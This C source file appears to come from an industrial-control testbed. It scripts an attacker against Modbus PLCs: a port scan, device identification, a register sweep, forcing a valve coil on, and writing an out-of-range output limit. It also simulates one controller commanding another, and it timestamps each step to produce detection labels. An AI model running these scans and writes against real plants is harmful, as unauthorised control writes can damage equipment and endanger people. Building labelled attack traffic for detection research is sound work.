// SPDX-License-Identifier: Apache-2.0
// What an attacker does, step by step. Prints the begin and the end of each step, from which label.py makes
// the labels.
//
//   intruder attack     a foreign host: scan, identify, sweep, write a coil, write a register
//   intruder command    run on plc-2: a controller that suddenly commands another
#define _GNU_SOURCE
#include "common.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char *const PLCS[] = {PLC_1, PLC_2};
static double started;

static void mark(const char *event, const char *edge) {
    printf("%s %s %.6f\n", event, edge, clock_seconds(CLOCK_REALTIME));
    fflush(stdout);
}

static void wait_until(double second) { pause_for(started + second - monotonic()); }

static modbus_t *must_connect(const char *address) {
    modbus_t *bus = connect_to(address);
    if (bus != NULL) return bus;
    perror(address);
    exit(1);
}

// A plain connect scan of one port; nothing is sent over a connection that opens.
static void probe(const char *address, int port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) return;
    if (connect(fd, (struct sockaddr *)&to, sizeof to) < 0 && errno == EINPROGRESS) {
        struct pollfd wait = {.fd = fd, .events = POLLOUT};
        poll(&wait, 1, 60);
    }
    close(fd);
}

static void scan(void) {
    static const int ports[] = {21, 22, 23, 80, 102, 443, 4840, 20000, 44818};
    for (int host = 1; host <= 40; ++host) {
        char address[INET_ADDRSTRLEN];
        snprintf(address, sizeof address, "10.20.1.%d", host);
        probe(address, MODBUS_PORT);
        pause_for(between(0.02, 0.06));
    }
    for (size_t i = 0; i < sizeof ports / sizeof *ports; ++i) {
        probe(PLC_1, ports[i]);
        pause_for(between(0.02, 0.06));
    }
    pause_for(4);  // the kernel asks three times, a second apart, for hosts that aren't there
}

static void identify(void) {
    static const uint8_t read_device_id[] = {UNIT, 0x2b, 0x0e, 0x01, 0x00};  // basic, from object 0
    uint8_t answer[MODBUS_TCP_MAX_ADU_LENGTH];
    for (int i = 0; i < 2; ++i) {
        modbus_t *bus = must_connect(PLCS[i]);
        modbus_send_raw_request(bus, (uint8_t *)read_device_id, sizeof read_device_id);
        modbus_receive_confirmation(bus, answer);
        pause_for(between(0.1, 0.3));
        modbus_report_slave_id(bus, sizeof answer, answer);
        disconnect(bus);
        pause_for(between(0.5, 1));
    }
}

static void sweep(void) {
    uint16_t words[100];
    for (int i = 0; i < 2; ++i) {
        modbus_t *bus = must_connect(PLCS[i]);
        for (int first = 0; first < 500; first += 100) {
            modbus_read_registers(bus, first, 100, words);  // beyond the map this is answered by an exception
            pause_for(between(0.1, 0.3));
        }
        disconnect(bus);
        pause_for(between(0.5, 1));
    }
}

static void write_coil(void) {
    modbus_t *bus = must_connect(PLC_1);
    modbus_write_bit(bus, RINSE_VALVE, 1);
    disconnect(bus);
    pause_for(0.5);
}

static void write_register(const char *address, int number, uint16_t value) {
    modbus_t *bus = must_connect(address);
    modbus_write_register(bus, number, value);
    disconnect(bus);
    pause_for(0.5);
}

static void attack(void) {
    wait_until(60);
    mark("port-scan", "begin");
    scan();
    mark("port-scan", "end");

    wait_until(95);
    mark("identification", "begin");
    identify();
    mark("identification", "end");

    wait_until(130);
    mark("register-sweep", "begin");
    sweep();
    mark("register-sweep", "end");

    wait_until(165);
    mark("coil-write", "begin");
    write_coil();
    mark("coil-write", "end");

    wait_until(225);
    mark("register-write", "begin");
    write_register(PLC_1, OUTPUT_LIMIT, 4000);  // the set points of this site end at 1000
    mark("register-write", "end");
}

static void command(void) {
    wait_until(60);
    mark("controller-write", "begin");
    write_register(PLC_1, TENTH_C_SETPOINT, 663);  // a value any operator might set: only the sender is wrong
    mark("controller-write", "end");
}

int main(int argc, char **argv) {
    started = monotonic();
    if (argc == 2 && strcmp(argv[1], "attack") == 0) return attack(), 0;
    if (argc == 2 && strcmp(argv[1], "command") == 0) return command(), 0;
    return fprintf(stderr, "usage: intruder attack|command\n"), 2;
}
